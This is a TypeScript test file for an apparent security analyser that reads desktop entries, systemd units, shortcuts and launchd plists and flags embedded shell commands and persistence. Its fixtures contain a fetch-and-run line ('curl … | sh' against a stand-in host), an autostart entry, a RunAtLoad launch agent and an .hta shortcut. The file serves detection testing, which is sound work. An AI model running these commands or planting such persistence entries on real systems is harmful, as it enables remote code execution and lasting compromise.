import { describe, expect, test } from "vitest";
import { MAX_PROPERTIES, readDesktopEntry } from "../../../src/read/manifest/desktop/read-desktop-entry.ts";
import { MAX_ELEMENTS } from "../../../src/read/manifest/desktop/property-list.ts";
import { place, tell, type Told } from "./tell.ts";

const read = (path: string, text: string): Told => tell(readDesktopEntry, path, text, "desktop-entry");

describe("desktop entries", () => {
  const text = "[Desktop Entry]\nType=Application\nExec=sh -c 'curl -s https://x.example | sh' %u\n";

  test("the command, with the field codes taken out", () => {
    const told = read("x.desktop", text);
    expect(told.in("shell")).toEqual([`sh -c 'curl -s https://x.example | sh' "$FIELD"`]);
    expect(told.embedded[0]?.placeOf("curl")).toBe(place(text, "curl"));
    expect(told.operations("persist")).toEqual([]);
  });

  test("in autostart it stays", () => {
    expect(read("autostart/x.desktop", text).operations("persist")).toMatchObject([{ mechanism: "startup-folder" }]);
  });
});

test("a systemd unit", () => {
  const told = read(
    "x.service",
    "[Service]\nExecStartPre=-/bin/mkdir x\nExecStart=/usr/bin/python3 \\\n  /opt/x.py\n[Install]\nWantedBy=default.target\n",
  );
  expect(told.in("shell")).toEqual(["/bin/mkdir x", "/usr/bin/python3 \\\n  /opt/x.py"]);
  expect(told.operations("persist")).toMatchObject([{ mechanism: "systemd" }, { mechanism: "systemd" }]);
  expect(told.embedded[0]?.context.trigger).toBe("load");
});

test("a Windows shortcut", () => {
  const told = read("x.url", "[InternetShortcut]\nURL=https://x.example/a.hta\n");
  expect(told.of("file")).toMatchObject([{ form: { is: "shortcut", target: "https://x.example/a.hta" } }]);
});

describe("property lists", () => {
  const text = `<?xml version="1.0"?>
<plist version="1.0"><dict>
  <key>Label</key><string>com.x.agent</string>
  <key>ProgramArguments</key>
  <array>
    <string>/bin/bash</string>
    <string>-c</string>
    <string>curl -s https://x.example &amp;&amp; id</string>
  </array>
  <key>RunAtLoad</key><true/>
</dict></plist>`;

  test("a launch agent", () => {
    const told = read("x.plist", text);
    expect(told.operations("persist")).toMatchObject([
      {
        mechanism: "launchd",
        target: { text: "com.x.agent" },
        content: { text: "/bin/bash -c curl -s https://x.example && id" },
      },
    ]);
    expect(told.in("shell")).toEqual(["/bin/bash -c 'curl -s https://x.example && id'"]);
    expect(told.embedded[0]?.placeOf("curl")).toBe(place(text, "curl"));
  });

  test("near miss: settings", () => {
    expect(read("x.plist", "<plist><dict><key>Name</key><string>/bin/bash</string></dict></plist>").facts).toEqual([]);
  });

  test("a web location", () => {
    const told = read(
      "x.webloc",
      "<plist><dict><key>URL</key><string>https://x.example/?a=1&amp;b</string></dict></plist>",
    );
    expect(told.of("file")).toMatchObject([{ form: { is: "shortcut", target: "https://x.example/?a=1&b" } }]);
  });
});

describe("limits", () => {
  test("entries", () => {
    expect(read("x.service", "A=b\n".repeat(MAX_PROPERTIES)).gaps).toEqual([]);
    expect(read("x.service", "A=b\n".repeat(MAX_PROPERTIES + 1)).gaps).toMatchObject([{ code: "too-many" }]);
  });

  test("elements", () => {
    expect(read("x.plist", `<plist>${"<true/>".repeat(MAX_ELEMENTS)}`).gaps).toEqual([]);
    expect(read("x.plist", `<plist>${"<true/>".repeat(MAX_ELEMENTS + 1)}`).gaps).toMatchObject([{ code: "too-many" }]);
  });
});
